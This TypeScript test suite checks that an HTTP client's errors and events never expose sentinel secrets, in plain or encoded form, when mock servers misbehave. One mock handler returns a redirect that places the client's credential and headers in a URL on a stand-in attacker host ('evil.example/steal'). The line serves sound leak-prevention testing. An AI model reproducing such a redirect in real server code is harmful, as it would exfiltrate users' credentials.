// Scenario 30: sentinel secrets never appear, in any encoding, in anything an error exposes.
import { inspect } from "node:util";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { createAuth } from "../../../runtime/auth/index.ts";
import { Redactor } from "../../../runtime/secrets/redactor.ts";
import type { AuthSpec } from "../../../runtime/connector.ts";
import { get, makeClient, rejection, TRANSPORTS } from "./make-client.ts";
import { closedPort, resetMidBody, stall, startServer, type Handler, type TestServer } from "./server.ts";

const SECRETS = { API_KEY: "SNTLkey-7f/+= x&q", BEARER: "SNTLbearer-9qW2", USER: "sntl-user-4r", PASS: "SNTLpass-Kx:9" };
const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64");
const FORBIDDEN: string[] = [SECRETS.API_KEY, SECRETS.BEARER, SECRETS.PASS, `${SECRETS.USER}:${SECRETS.PASS}`].flatMap((s) => [
  s,
  encodeURIComponent(s),
  new URLSearchParams({ k: s }).toString().slice(2),
  b64(s),
  b64(s).replace(/=+$/, ""),
  Buffer.from(s).toString("base64url"),
]);

const AUTHS: [label: string, spec: AuthSpec][] = [
  ["api key in query", { type: "api_key", name: "api_key", location: "query", apiKey: { $secret: "api_key" } }],
  ["api key in header", { type: "api_key", name: "X-Key", location: "header", apiKey: { $secret: "api_key" } }],
  ["bearer", { type: "bearer", token: { $secret: "bearer" } }],
  ["basic", { type: "http_basic", username: { $secret: "user" }, password: { $secret: "pass" } }],
];

/** Echoes everything the client sent (URL, credentials) back in the body, as hostile APIs do. */
function echo(status: number, contentType: string, wrap: (echoed: string) => string, headers: Record<string, string> = {}): Handler {
  return (req, res) => {
    const body = wrap(`you sent ${req.url ?? ""} ${JSON.stringify(req.headers)} ${decodeURIComponent(req.url ?? "")}`);
    res.writeHead(status, { "content-type": contentType, ...headers });
    res.end(body);
  };
}

const FAULTS: [label: string, handler: Handler | "refused"][] = [
  ["401", echo(401, "application/json", (e) => JSON.stringify({ error: e }))],
  ["403", echo(403, "text/plain", (e) => e)],
  ["404", echo(404, "application/json", (e) => JSON.stringify({ error: e }))],
  ["500 exhausted", echo(500, "application/json", (e) => JSON.stringify({ error: e }))],
  ["429 Retry-After too long", echo(429, "application/json", (e) => JSON.stringify({ error: e }), { "retry-after": "86400" })],
  ["truncated JSON", echo(200, "application/json", (e) => `{"echo": ${JSON.stringify(e)}`)],
  ["invalid JSON quoting the secret", echo(200, "application/json", (e) => e)],
  ["HTML", echo(200, "text/html", (e) => `<html><body>${e}</body></html>`)],
  [
    "redirect carrying the secret",
    (req, res) => {
      // The credential the client sent becomes the host name (lower-cased by URL parsing) and path.
      const credential = (req.headers.authorization ?? "x y").split(" ")[1] ?? "x";
      res.writeHead(302, { location: `https://${credential}.evil.example/steal${req.url ?? ""}&h=${encodeURIComponent(JSON.stringify(req.headers))}` });
      res.end();
    },
  ],
  ["timeout", stall],
  ["reset mid-body", resetMidBody],
  ["connection refused", "refused"],
];

/** Everything an error exposes: message, String, JSON, inspect, and the whole cause chain. */
function exposed(error: Error): string {
  const parts = [error.message, String(error), JSON.stringify(error), inspect(error, { depth: 20, showHidden: true }), error.stack ?? ""];
  for (let e: unknown = error.cause; e !== undefined; e = e instanceof Error ? e.cause : undefined) {
    parts.push(String(e), e instanceof Error ? `${e.message}\n${e.stack ?? ""}` : "", JSON.stringify(e) ?? "");
  }
  return parts.join("\n");
}

for (const [transport, fetchImpl] of TRANSPORTS) {
  const test = suite(`no secret leaks over ${transport}`);
  let server: TestServer;
  let refusedOrigin = "";
  test.before(async () => {
    server = await startServer();
    refusedOrigin = `http://127.0.0.1:${await closedPort()}`;
  });
  test.after(() => server.close());

  for (const [authLabel, spec] of AUTHS) {
    for (const [faultLabel, handler] of FAULTS) {
      test(`${authLabel}: ${faultLabel}`, async () => {
        const redactor = new Redactor();
        const auth = createAuth(spec, { env: SECRETS, dotenv: {} }, redactor);
        const retry = { maxRetries: 1, backoffFactor: 1, statusCodes: [429, 500], maxDelay: 60 };
        const options = { auth, redactor, retry, timeoutSeconds: 0.15 };
        const { client, events } = makeClient(fetchImpl === undefined ? options : { ...options, fetch: fetchImpl });
        const origin = handler === "refused" ? refusedOrigin : server.origin;
        if (handler !== "refused") server.script(handler);
        const error = await rejection(client.send(get(`${origin}/v1/items?page=3`)));
        assert.match(error.message, "items: GET");
        const text = `${exposed(error)}\n${JSON.stringify(events)}`;
        const lower = text.toLowerCase();
        for (const form of FORBIDDEN) assert.not.ok(lower.includes(form.toLowerCase()), `leaked ${JSON.stringify(form)} in:\n${text}`);
        if (handler !== "refused") assert.ok(server.received.length >= 1, "the server was reached");
      });
    }
  }

  test.run();
}
